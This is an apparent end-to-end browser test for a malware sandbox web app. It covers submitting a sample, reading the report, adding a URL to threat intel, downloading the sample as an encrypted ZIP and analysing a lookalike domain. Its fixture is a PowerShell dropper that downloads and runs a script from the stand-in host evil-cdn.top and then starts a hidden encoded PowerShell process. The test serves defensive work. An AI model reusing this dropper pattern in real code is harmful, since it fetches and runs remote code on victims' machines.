// End-to-end: a sample submitted through the Sandbox page of a real server
// is analysed in the background, its progress and report reach the
// browser, an extracted URL goes to threat intel, the sample downloads as a
// ZIP encrypted with "infected", and a domain is analysed from the value
// form. YARA rules say whether this build compiles them.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { ADMIN, artifacts, logIn, screenshot, start, stepper, stop } from "./harness.mjs";

const DROPPER =
  "$u = 'http://evil-cdn.top/stage2.ps1'\r\n" +
  "IEX (New-Object Net.WebClient).DownloadString($u)\r\n" +
  "Start-Process powershell -ArgumentList '-nop -w hidden -enc SQBFAFgA' -WindowStyle Hidden\r\n";

describe("sandbox: submit a sample in the browser and read its report", { timeout: 240_000 }, () => {
  /** @type {Awaited<ReturnType<typeof start>>} */
  let run;
  const step = stepper(it, () => run);

  before(async () => {
    if (existsSync(artifacts)) for (const f of readdirSync(artifacts)) if (f.startsWith("sandbox-")) rmSync(join(artifacts, f));
    run = await start("sandbox");
    await logIn(run, ADMIN);
  });
  after(async () => {
    await stop(run);
  });

  step("the Sandbox page is built and offers the file drop and the value form", async ({ page, baseURL }) => {
    await page.goto(`${baseURL}/sandbox`);
    await page.getByRole("heading", { level: 1, name: "Sandbox" }).waitFor();
    await page.getByRole("button", { name: "choose a file" }).waitFor();
    await page.getByLabel("Kind of value").waitFor();
    assert.equal(await page.getByText("not built yet").count(), 0);
  });

  step("a dropped PowerShell dropper is analysed and its report shown", async (r) => {
    const { page } = r;
    await page.getByLabel("Sample file").setInputFiles({ name: "invoice.ps1", mimeType: "text/plain", buffer: Buffer.from(DROPPER) });
    const report = page.getByRole("region", { name: "Report of invoice.ps1" });
    await report.waitFor();
    // The analysis finishes in the background; the page follows it.
    await report.getByRole("heading", { name: /Why this score/ }).waitFor({ timeout: 30_000 });
    await report.getByLabel("Verdict").getByText("malicious", { exact: true }).waitFor();
    const score = await report.getByLabel("Score").textContent();
    assert.match(score ?? "", /^\d+\/100$/);
    await report.getByText("http://evil-cdn.top/stage2.ps1").first().waitFor();
    await report.getByText("PowerShell script").first().waitFor();
    await screenshot(r, "report");
    // The history lists it.
    await page.getByRole("region", { name: "History" }).getByRole("button", { name: "invoice.ps1" }).waitFor();
  });

  step("an extracted URL is added to threat intel from the report", async ({ page }) => {
    const report = page.getByRole("region", { name: "Report of invoice.ps1" });
    await report.getByRole("button", { name: "Add http://evil-cdn.top/stage2.ps1 to intel" }).click();
    await report.getByText("Added to intel").waitFor();
  });

  step("the sample downloads as a ZIP that opens with the password infected", async ({ page, dataDir }) => {
    const report = page.getByRole("region", { name: "Report of invoice.ps1" });
    const [download] = await Promise.all([page.waitForEvent("download"), report.getByRole("link", { name: /Download sample/ }).click()]);
    const file = join(dataDir, "download.zip");
    await download.saveAs(file);
    const zip = readFileSync(file);
    assert.equal(zip.subarray(0, 2).toString(), "PK");
    assert.ok(!zip.includes(Buffer.from("DownloadString")), "the archive holds the sample in the clear");
    try {
      const out = execFileSync("unzip", ["-p", "-P", "infected", file]);
      assert.equal(out.toString(), DROPPER);
    } catch (err) {
      if (/** @type {NodeJS.ErrnoException} */ (err).code !== "ENOENT") throw err;
    }
  });

  step("a domain is analysed from the value form", async (r) => {
    const { page } = r;
    await page.getByLabel("Kind of value").selectOption("domain");
    await page.getByLabel("Value", { exact: true }).fill("paypa1-secure-login.com");
    await page.getByRole("button", { name: "Analyse", exact: true }).click();
    const report = page.getByRole("region", { name: "Report of paypa1-secure-login.com" });
    await report.getByRole("heading", { name: /Why this score/ }).waitFor({ timeout: 30_000 });
    await report.getByRole("heading", { name: "URL / domain / IP" }).waitFor();
    await screenshot(r, "domain");
  });

  step("the YARA tab says whether this build compiles rules", async ({ page, baseURL }) => {
    await page.getByRole("tab", { name: "YARA rules" }).click();
    await page.getByRole("button", { name: "New rule" }).waitFor();
    const info = await page.evaluate(async (u) => (await fetch(`${u}/api/v1/sandbox/info`)).json(), baseURL);
    if (!info.yara_enabled) await page.getByRole("note").getByText(/YARA disabled: built without the yara tag/).waitFor();
  });

  step("the page raised no script errors", async ({ pageErrors }) => {
    assert.deepEqual(pageErrors.map(String), []);
  });
});
